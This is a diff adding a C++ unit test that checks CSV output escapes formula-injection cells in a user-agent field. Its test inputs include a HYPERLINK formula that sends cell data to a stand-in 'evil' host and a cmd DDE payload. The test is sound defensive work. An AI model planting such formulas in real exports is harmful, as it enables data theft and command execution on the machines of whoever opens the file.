@@ -110,6 +110,26 @@ TEST(ScanOutput, CsvQuotesPerRfc4180) {
   EXPECT_EQ(csv.substr(csv.size() - 2), "\r\n");
 }
 
+// OWASP "CSV injection": an attacker chooses the user agent of the calls they make; a cell that
+// begins with = + - @ tab or CR would run as a formula where the CSV is opened.
+TEST(ScanOutput, CsvNeutralisesCellsThatASpreadsheetWouldRunAsFormulas) {
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\""},
+      {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
+      {"-2+3", "\"'-2+3\""},
+      {"@SUM(A1)", "\"'@SUM(A1)\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\r=1\""},
+      {"aws-cli/2.15 =x", "aws-cli/2.15 =x"},  // only the first character matters
+  };
+  for (const auto& [agent, cell] : cases) {
+    MatchRow row;
+    row.user_agent = agent;
+    std::string csv = FormatRows(std::vector<MatchRow>{row}, OutputFormat::kCsv);
+    EXPECT_NE(csv.find("," + cell + ","), std::string::npos) << agent << "\n" << csv;
+  }
+}
+
 TEST(ScanOutput, JsonAndJsonLinesParse) {
   std::vector<MatchRow> rows = {Tricky(), Tricky()};
   simdjson::dom::parser parser;
